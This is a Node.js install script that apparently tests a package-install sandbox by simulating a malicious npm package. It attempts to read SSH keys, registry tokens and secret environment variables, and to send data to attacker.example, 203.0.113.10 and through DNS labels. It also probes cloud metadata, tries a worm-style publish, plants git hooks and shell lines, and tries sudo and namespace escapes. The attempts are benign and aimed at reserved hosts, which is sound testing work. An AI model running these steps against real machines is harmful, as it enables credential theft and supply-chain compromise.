// SPDX-License-Identifier: Apache-2.0

// What install scripts of bad packages do, one attempt a line. Nothing is
// printed of what is found, nothing is sent but the fact of it, and every host
// is one that is reserved for examples (RFC 2606, RFC 5737) or this machine.
//
// It never fails: a real one would not draw attention either.
'use strict';

const { execFileSync, spawnSync } = require('node:child_process');
const dns = require('node:dns').promises;
const fs = require('node:fs');
const http = require('node:http');
const https = require('node:https');
const net = require('node:net');
const os = require('node:os');
const path = require('node:path');

const project = process.env.INIT_CWD || process.cwd();
const patience = 4000; // ms for each attempt on the network

// The example's script plants secrets in a home directory of its own and writes
// here where it is, so that an attempt does not fail for want of a target.
const target = readTarget();

function readTarget() {
  try {
    return JSON.parse(fs.readFileSync(path.join(project, '.target.json'), 'utf8'));
  } catch {
    return { home: os.homedir(), port: 0 };
  }
}

class Denied extends Error {}
class NotTried extends Error {}

// attempt runs one attempt. It succeeded if the function returns; a text that it
// returns says with what.
async function attempt(what, f) {
  try {
    const with_ = await f();
    console.log(`attempt: ${what}: SUCCEEDED${with_ ? ` (${with_})` : ''}`);
  } catch (err) {
    if (err instanceof NotTried) console.log(`attempt: ${what}: not tried (${err.message})`);
    else console.log(`attempt: ${what}: denied (${err instanceof Denied ? err.message : err.code || err.message})`);
  }
}

// firstReadable returns the first path that can be read and holds the pattern.
function firstReadable(paths, pattern) {
  let last = new Denied('no such file');
  for (const p of paths) {
    try {
      if (pattern.test(fs.readFileSync(p, 'utf8'))) return p;
      last = new Denied('no secret in it');
    } catch (err) {
      last = err;
    }
  }
  throw last;
}

function homes() {
  const found = new Set([target.home, os.homedir(), '/root']);
  for (const base of ['/home', '/Users']) {
    try {
      for (const name of fs.readdirSync(base)) found.add(path.join(base, name));
    } catch {
      // there is none
    }
  }
  return [...found];
}

const secretName = /(^|_)(token|secret|password|passwd|credentials?)(_|$)|authtoken|(access|api|private)_?key/i;

function secretsOf(environ) {
  return environ.filter((line) => {
    const [name, ...value] = line.split('=');
    return secretName.test(name) && value.join('=') !== '';
  }).map((line) => line.split('=')[0]);
}

// say connects, sends a line and returns what comes back. A connection that is
// taken and then hung up on without a word was taken by a gateway, not by the
// host that it was meant for.
function say(host, port, line) {
  return new Promise((resolve, reject) => {
    const socket = net.connect({ host, port, timeout: patience });
    let answer = '';
    socket.setEncoding('latin1');
    socket.on('connect', () => socket.write(line));
    socket.on('data', (chunk) => { if (answer.length < 4096) answer += chunk; });
    socket.on('timeout', () => socket.destroy(new Denied('no answer')));
    socket.on('error', reject);
    socket.on('close', () => {
      if (answer === '') reject(new Denied('hung up without a word'));
      else if (/zviz/i.test(answer)) reject(new Denied(`${answer.split(' ')[1]} from the runner's gateway`));
      else resolve('it answered');
    });
  });
}

function request(client, url, options, body) {
  return new Promise((resolve, reject) => {
    const req = client.request(url, { timeout: patience, ...options }, (res) => {
      let text = '';
      res.setEncoding('utf8');
      res.on('data', (chunk) => { if (text.length < 4096) text += chunk; });
      res.on('end', () => resolve({ status: res.statusCode, headers: res.headers, text }));
      res.on('error', reject);
    });
    req.on('timeout', () => req.destroy(new Denied('no answer')));
    req.on('error', reject);
    req.end(body);
  });
}

function registry() {
  const npm = process.env.npm_execpath;
  if (!npm) throw new NotTried('not started by npm');
  return execFileSync(process.execPath, [npm, 'config', 'get', 'registry'], { cwd: project, encoding: 'utf8' }).trim();
}

// publish asks the registry to take a package, as a worm does with a token that
// it found. The token is not one, so a registry that is reached answers 401.
async function publish() {
  const url = new URL('pretty-dates-worm-example', registry());
  const body = JSON.stringify({ name: 'pretty-dates-worm-example', versions: {} });
  const answer = await request(url.protocol === 'http:' ? http : https, url, {
    method: 'PUT',
    headers: { 'content-type': 'application/json', authorization: 'Bearer not-a-token' },
  }, body);
  if ([403, 405].includes(answer.status) && /zviz/i.test(JSON.stringify(answer.headers) + answer.text)) {
    throw new Denied(`${answer.status} from the runner's proxy`);
  }
  return `the registry itself answered ${answer.status}`;
}

async function leakByName() {
  const label = Buffer.from(`${os.hostname()}:what-was-stolen`).toString('hex').slice(0, 60);
  const answer = await dns.resolve4(`${label}.leak.attacker.example`);
  return `answered ${answer}`;
}

function write(file, text, mode) {
  fs.writeFileSync(file, text, { mode });
}

// systemCalls needs a program that can make them: Node cannot. It is built by
// the C compiler if there is one, else Python does it.
function systemCalls() {
  const out = path.join(os.tmpdir(), `syscalls-${process.pid}`);
  const compiled = spawnSync('cc', ['-o', out, path.join(__dirname, 'syscalls.c')], { stdio: 'ignore' });
  const command = compiled.status === 0 ? [out] : ['python3', path.join(__dirname, 'syscalls.py')];
  const run = spawnSync(command[0], command.slice(1), { encoding: 'utf8', timeout: 20000 });
  if (run.error || !run.stdout) {
    console.log('attempt: system calls: not tried (needs a C compiler or python3)');
    return;
  }
  process.stdout.write(run.stdout);
}

function tool(name, ...args) {
  const run = spawnSync(name, args, { encoding: 'utf8', timeout: 10000 });
  if (run.error && run.error.code === 'ENOENT') throw new NotTried(`no ${name} here`);
  if (run.status !== 0) throw new Denied(run.stderr.trim().split('\n')[0] || `exit ${run.status ?? run.signal}`);
  return run.stdout.trim();
}

async function main() {
  if (!/^Seccomp:\s*2$/m.test(fs.readFileSync('/proc/self/status', 'utf8')) && !process.env.HOSTILE_ANYWAY) {
    console.log('attempt: none: there is no sandbox around this install, so nothing is tried');
    return;
  }

  // Steal.
  await attempt('read a private key, ~/.ssh/id_*', () => firstReadable(
    homes().flatMap((home) => ['id_ed25519', 'id_rsa', 'id_ecdsa'].map((key) => path.join(home, '.ssh', key))), /PRIVATE KEY/));
  await attempt('read the registry token, ~/.npmrc', () => firstReadable(homes().map((home) => path.join(home, '.npmrc')), /_auth|_password/));
  await attempt('find tokens in the environment', () => {
    const found = secretsOf(Object.entries(process.env).map(([name, value]) => `${name}=${value}`));
    if (found.length === 0) throw new Denied(`none of ${Object.keys(process.env).length} variables`);
    return found.join(' ');
  });
  await attempt('find tokens of other processes, /proc/*/environ', () => {
    const pids = fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name));
    const found = pids.flatMap((pid) => {
      try {
        return secretsOf(fs.readFileSync(`/proc/${pid}/environ`, 'utf8').split('\0'));
      } catch {
        return [];
      }
    });
    if (found.length === 0) throw new Denied(`none in ${pids.length} processes`);
    return found.join(' ');
  });

  // Send.
  await attempt('send it to https://attacker.example', () => request(https, 'https://attacker.example/collect', { method: 'POST' }, 'x').then((a) => `answered ${a.status}`));
  await attempt('send it to the address 203.0.113.10, port 443', () => say('203.0.113.10', 443, 'what-was-stolen\n'));
  await attempt('send it in the labels of a DNS name', leakByName);
  await attempt('read the cloud\'s credentials at 169.254.169.254', () => say('169.254.169.254', 80, 'GET /latest/meta-data/ HTTP/1.0\r\n\r\n'));
  await attempt('talk to a service of this machine on 127.0.0.1', () => {
    if (!target.port) throw new NotTried('no service is running');
    return say('127.0.0.1', target.port, 'x');
  });
  await attempt('publish a package with a stolen token', publish);

  // Stay.
  await attempt('plant a git hook, .git/hooks/post-checkout', () => write(path.join(project, '.git/hooks/post-checkout'), '#!/bin/sh\nexit 0\n', 0o755));
  await attempt('run a program at the next git status, .git/config', () => fs.appendFileSync(path.join(project, '.git/config'), '[core]\n\tfsmonitor = false\n'));
  await attempt('add a line to ~/.bashrc', () => {
    if (target.home === os.homedir()) throw new NotTried('the home of this install is its own');
    fs.appendFileSync(path.join(target.home, '.bashrc'), '# planted\n');
  });
  await attempt('replace a program in /usr/bin', () => write('/usr/bin/zviz-example-planted', '#!/bin/sh\n', 0o755));

  // Break out.
  await attempt('become root by sudo', () => {
    // The job's own sudo runs a command as it is: what counts is who it is then.
    const uid = tool('sudo', '-n', 'id', '-u');
    if (uid !== '0') throw new Denied(`still uid ${uid}`);
  });
  await attempt('make namespaces by unshare(1)', () => tool('unshare', '-Urm', 'true'));
  await attempt('trace a process by strace(1)', () => tool('strace', '-o', '/dev/null', 'true'));
  systemCalls();
}

main().catch((err) => console.log(`attempt: stopped: ${err.message}`));
